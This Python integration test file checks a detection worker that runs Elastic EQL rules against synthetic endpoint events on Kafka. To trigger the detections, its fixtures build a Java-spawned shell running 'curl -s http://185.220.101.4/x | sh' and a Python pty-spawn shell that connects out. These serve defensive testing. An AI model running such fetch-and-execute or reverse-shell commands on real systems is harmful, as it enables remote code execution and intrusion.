"""The operator's EQL rules in the worker on the real broker: three rule files from Elastic's detection-rules run
verbatim (``SHELLWATCH_RULES``) beside the bundled rules, with an exception list, and the alerts topic holds
exactly what the offline engines raise on the same events; a rule the worker cannot run stops it at start-up."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from shellwatch.core.rule_runner import RuleRunner, RunnerConfig
from shellwatch.rules.eql_rule import load_eql_rules
from shellwatch.samples.ecs_factory import connection, entity_id, execution
from tests.integration.deployment import LIVE, Deployment
from tests.shared import CUPS_FILE_RULE, JAVA_RULE_FILES, VENDORED, cups_sequence, offline_alert_ids

RULE_FILES = JAVA_RULE_FILES
JNDI = "c3f5e1d8-910e-43b4-8d44-d748e498ca86"
EXCEPTIONS = f"""
[exception_list]
name = "Scanner lab"
rule_ids = ["{JNDI}"]

[[exception_list.items]]
name = "the lab's LDAP honeypot host"
entries = [{{ field = "host.id", operator = "included", type = "match", value = "lab-honeypot" }}]
"""


@pytest.fixture
def rules_dir(tmp_path: Path) -> Path:
    directory = tmp_path / "rules"
    directory.mkdir()
    for name in RULE_FILES:
        shutil.copy(VENDORED / name, directory / name)
    (directory / "lab_exceptions.toml").write_text(EXCEPTIONS)
    return directory


@pytest.fixture
def deployment(kafka_bootstrap: str, tmp_path: Path, rules_dir: Path) -> Iterator[Deployment]:
    deployed = Deployment(kafka_bootstrap, tmp_path)
    deployed.extra_env["SHELLWATCH_RULES"] = str(rules_dir)
    yield deployed
    deployed.stop()


def jndi(host: str, t_ms: int) -> list[dict[str, Any]]:
    """A Java process reaches an LDAP port, then spawns a shell: the JNDI rule, and the Java reverse-shell rules."""
    return [
        connection(
            ts_ms=t_ms, host_id=host, pid=4242, dest_ip="185.220.101.4", event_id=f"{host}-ldap", dest_port=1389
        ),
        execution(
            ts_ms=t_ms + 800,
            host_id=host,
            pid=31337,
            parent_pid=4242,
            event_id=f"{host}-shell",
            args=["/bin/bash", "-c", "curl -s http://185.220.101.4/x | sh"],
        ),
    ]


def python_pty(host: str, t_ms: int) -> list[dict[str, Any]]:
    """A shell starts Python with a pty spawn, and that Python process connects out within a second."""
    spawn = execution(
        ts_ms=t_ms,
        host_id=host,
        pid=777,
        parent_pid=700,
        event_id=f"{host}-pty",
        name="python3",
        args=["/usr/bin/python3", "-c", "import pty; pty.spawn('/bin/sh')"],
        parent_executable="/bin/bash",
        parent_args=["/bin/bash"],
    )
    spawn["event"]["type"] = ["start"]
    spawn["process"]["entity_id"] = entity_id(host, 777)  # the process its connection names
    out = connection(
        ts_ms=t_ms + 400,
        host_id=host,
        pid=777,
        dest_ip="185.220.101.9",
        event_id=f"{host}-out",
        executable="/usr/bin/python3",
    )
    return [spawn, out]


def expected_ids(docs: list[dict[str, Any]], rules_dir: Path) -> set[str]:
    """What the offline engines raise: the bundled rules, and ``detect --rules`` on the operator's files."""
    loaded = load_eql_rules([rules_dir])
    assert loaded.problems == () and len(loaded.rules) == len(RULE_FILES)
    runner = RuleRunner(loaded.rules, RunnerConfig())
    alerts: list[dict[str, Any]] = []
    for doc in sorted(docs, key=lambda d: d["@timestamp"]):
        alerts.extend(runner.process(orjson.dumps(doc), 0).alerts)
    alerts.extend(runner.flush(0))
    return offline_alert_ids(docs) | {a["event"]["id"] for a in alerts}


def test_vendored_rules_run_verbatim_beside_the_bundled_ones(deployment: Deployment, rules_dir: Path) -> None:
    docs = [
        *jndi("host-jndi", LIVE),
        *jndi("lab-honeypot", LIVE + 100),  # excepted from the JNDI rule only
        *python_pty("host-pty", LIVE + 200),
        *python_pty("host-pty-2", LIVE + 300),
    ]
    expected = expected_ids(docs, rules_dir)
    deployment.start_worker()
    deployment.wait_ready()
    deployment.produce(docs)
    alerts = deployment.alerts_for(len(expected))
    got = sorted((a["rule"]["id"][:8], a["host"]["id"]) for a in alerts)
    assert {a["event"]["id"] for a in alerts} == expected, (got, deployment.log_digest())
    assert len(alerts) == len(expected)  # no duplicates
    by_rule: dict[str, set[str]] = {}
    for alert in alerts:
        by_rule.setdefault(alert["rule"]["id"], set()).add(alert["host"]["id"])
    assert by_rule[JNDI] == {"host-jndi"}  # the honeypot is excepted
    assert by_rule["5a3d5447-31c9-409a-aed1-72f9921594fd"] == {"host-jndi", "lab-honeypot"}
    assert by_rule["76e4d92b-61c1-4a95-ab61-5fd94179a1ee"] == {"host-pty", "host-pty-2"}
    assert by_rule["potential-reverse-shell-via-java"] == {"host-jndi", "lab-honeypot"}
    log = deployment.workers[0].log_path.read_text(errors="replace")
    assert f"running rule {JNDI} ({rules_dir / RULE_FILES[1]}) from SHELLWATCH_RULES" in log


CUPS_FILE = CUPS_FILE_RULE


def test_a_rule_reading_file_events_runs_on_the_file_topic(kafka_bootstrap: str, tmp_path: Path) -> None:
    """The file input: a ``file where`` stage makes the worker read the file topic SHELLWATCH_INPUT_TOPICS names,
    beside the network and process topics, and the sequence completes across them; the bundled rules are
    unaffected. Only the alerts the offline engines raise arrive, once each."""
    rules = tmp_path / "rules"
    rules.mkdir()
    shutil.copy(VENDORED / CUPS_FILE, rules / CUPS_FILE)
    deployment = Deployment(kafka_bootstrap, tmp_path, other_inputs=("file",))
    deployment.extra_env["SHELLWATCH_RULES"] = str(rules)
    try:
        docs = [
            *cups_sequence("host-cups-1", LIVE),
            *cups_sequence("host-cups-2", LIVE + 100),
            *cups_sequence("host-gs", LIVE + 200, file_path="/tmp/gs_a1", writer="gs"),  # the rule's own exclusion
            *jndi("host-java", LIVE + 300),  # the bundled rules, meanwhile
        ]
        loaded = load_eql_rules([rules])
        runner = RuleRunner(loaded.rules, RunnerConfig())
        offline = [a for d in docs for a in runner.process(orjson.dumps(d), 0).alerts] + runner.flush(0)
        expected = offline_alert_ids(docs) | {a["event"]["id"] for a in offline}
        assert {a["host"]["id"] for a in offline} == {"host-cups-1", "host-cups-2"}
        deployment.start_worker()
        deployment.wait_ready()
        deployment.produce(docs)
        alerts = deployment.alerts_for(len(expected))
        assert {a["event"]["id"] for a in alerts} == expected, deployment.log_digest()
        assert len(alerts) == len(expected)
        ruled = {a["host"]["id"] for a in alerts if a["rule"]["id"] == "b9b14be7-b7f4-4367-9934-81f07d2f63c4"}
        assert ruled == {"host-cups-1", "host-cups-2"}
        log = deployment.workers[0].log_path.read_text(errors="replace")
        assert f"{deployment.others['file']} (file)" in log  # stage 1 reads the file topic
    finally:
        deployment.stop()


def test_a_missing_input_topic_stops_the_worker_with_its_name(kafka_bootstrap: str, tmp_path: Path) -> None:
    shutil.copy(VENDORED / CUPS_FILE, tmp_path / CUPS_FILE)
    deployment = Deployment(kafka_bootstrap, tmp_path)  # no file topic
    env = {**deployment.env(), "SHELLWATCH_RULES": str(tmp_path / CUPS_FILE)}
    done = subprocess.run(
        [sys.executable, "-m", "shellwatch", "worker"], env=env, capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 2, done.stderr
    assert "refusing to start" in done.stderr and "logs-endpoint.events.file" in done.stderr


def test_a_rule_that_is_not_host_local_stops_the_worker_with_the_reason(tmp_path: Path) -> None:
    source = (VENDORED / RULE_FILES[0]).read_text().replace("sequence by host.id", "sequence by user.name", 1)
    by_user = source.replace("by process.parent.entity_id", "by process.name").replace(
        "by process.entity_id", "by process.name"
    )
    (tmp_path / "by_user.toml").write_text(by_user)
    env = {"SHELLWATCH_RULES": str(tmp_path), "KAFKA_BOOTSTRAP_SERVERS": "127.0.0.1:9"}
    done = subprocess.run(
        [sys.executable, "-m", "shellwatch", "worker"],
        env={**os.environ, **env},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 2
    assert "SHELLWATCH_RULES: refused: rule 5a3d5447-31c9-409a-aed1-72f9921594fd" in done.stderr
    assert "so one sequence may span hosts, and the worker partitions by host.id" in done.stderr
